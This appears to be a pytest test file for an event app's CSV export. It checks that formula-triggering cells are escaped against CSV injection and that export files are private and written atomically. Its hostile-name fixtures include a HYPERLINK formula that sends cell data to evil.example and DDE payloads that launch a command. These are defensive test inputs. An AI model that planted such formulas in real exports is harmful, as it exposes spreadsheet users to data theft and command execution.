"""Exports hold personal data from servers and lists: no cell may run as a spreadsheet formula
(OWASP "CSV Injection"), and the file is readable by its owner only, from its first byte."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from orga_app.store import attendees, csvio
from tests.helpers import EVENT_ID, Seeded, add_attendees, attendee_row, seeded_store

# (first name as the server sent it, the cell a spreadsheet must receive)
HOSTILE_NAMES = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),  # blanks some importers trim before reading a formula
    ("\u00a0@x", "'\u00a0@x"),
    ("Jean-Luc", "Jean-Luc"),  # a trigger inside a name is harmless
    ("O'Neil", "O'Neil"),
    ("Ana", "Ana"),
]  # fmt: skip


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def door(tmp_path: Path) -> Iterator[Seeded]:
    door = seeded_store(tmp_path / "db", 0)
    add_attendees(
        door.store,
        [
            attendee_row(
                i + 1,
                first,
                "=1+1" if i == 0 else "Lastname",
                email="@evil.example" if i == 0 else f"p{i}@example.org",
                code=f"-CODE-{i}" if i == 0 else f"CODE-{i}",
            )
            for i, (first, _) in enumerate(HOSTILE_NAMES)
        ],
    )
    yield door
    door.store.close()


@pytest.fixture
def open_umask() -> Iterator[None]:
    """A common desktop umask (022): without care a new file is world-readable."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_attendee_export_escapes_every_formula_cell(door: Seeded, tmp_path: Path) -> None:
    out = tmp_path / "attendees.csv"
    with door.store.read() as conn:
        assert csvio.export_attendees(conn, EVENT_ID, out) == len(HOSTILE_NAMES)
    by_id = {int(r["id"]): r for r in read_rows(out)}
    for i, (_, expected) in enumerate(HOSTILE_NAMES):
        assert by_id[i + 1]["firstname"] == expected
    first = by_id[1]
    assert (first["lastname"], first["email"], first["code"]) == (
        "'=1+1",
        "'@evil.example",
        "'-CODE-0",
    )


def test_local_ids_stay_numbers(tmp_path: Path) -> None:
    """Negative ids (CSV-imported doors) are numbers, not formulas: no quote in front."""
    door = seeded_store(tmp_path / "db", 0)
    try:
        add_attendees(door.store, [attendee_row(-5, "Ana", "Local", code="L-5")])
        out = tmp_path / "local.csv"
        with door.store.read() as conn:
            csvio.export_attendees(conn, EVENT_ID, out)
        assert [r["id"] for r in read_rows(out)] == ["-5"]
    finally:
        door.store.close()


def test_scan_log_escapes_the_raw_code(door: Seeded, tmp_path: Path) -> None:
    for raw in ("=cmd|' /C calc'!A0", "@SUM(A1)", "+41-79", "CODE-9"):
        door.service.scan(EVENT_ID, raw)
    out = tmp_path / "scans.csv"
    with door.store.read() as conn:
        assert csvio.export_scan_log(conn, EVENT_ID, out) == 4
    assert [r["raw"] for r in read_rows(out)] == [
        "'=cmd|' /C calc'!A0",
        "'@SUM(A1)",
        "'+41-79",
        "CODE-9",
    ]


def test_an_escaped_export_imports_back_unchanged(door: Seeded, tmp_path: Path) -> None:
    out = tmp_path / "attendees.csv"
    with door.store.read() as conn:
        csvio.export_attendees(conn, EVENT_ID, out)
    with door.store.write() as conn:
        report = csvio.import_csv(conn, out, "Copy")
    assert report.skipped == []
    with door.store.read() as conn:
        copied = attendees.search(conn, report.event_id, limit=100)
    # .strip() on import: names the server sent with blanks around them come back trimmed.
    assert sorted(a.firstname for a in copied) == sorted(name.strip() for name, _ in HOSTILE_NAMES)
    assert {a.code for a in copied} >= {"-CODE-0", "CODE-1"}


@pytest.mark.usefixtures("open_umask")
def test_exports_are_private_from_the_first_byte(door: Seeded, tmp_path: Path) -> None:
    out = tmp_path / "attendees.csv"
    out.write_text("an older export, world-readable\n", encoding="utf-8")
    out.chmod(0o644)
    modes_while_writing: list[int] = []

    def look_at_the_partial_file(done: int, total: int) -> None:
        (partial,) = tmp_path.glob(".attendees.csv.*.part")
        modes_while_writing.append(mode_of(partial))

    with door.store.read() as conn:
        csvio.export_attendees(conn, EVENT_ID, out, look_at_the_partial_file, page=4)
        csvio.export_scan_log(conn, EVENT_ID, tmp_path / "scans.csv")
    assert modes_while_writing == [0o600, 0o600, 0o600]
    assert mode_of(out) == 0o600
    assert mode_of(tmp_path / "scans.csv") == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["attendees.csv", "db", "scans.csv"]


def test_a_failed_export_leaves_the_old_file_and_no_partial_file(
    door: Seeded, tmp_path: Path
) -> None:
    out = tmp_path / "attendees.csv"
    out.write_text("yesterday's export\n", encoding="utf-8")

    def fail(done: int, total: int) -> None:
        raise OSError(28, "No space left on device")

    with door.store.read() as conn, pytest.raises(OSError, match="No space"):
        csvio.export_attendees(conn, EVENT_ID, out, fail, page=4)
    assert out.read_text(encoding="utf-8") == "yesterday's export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["attendees.csv", "db"]
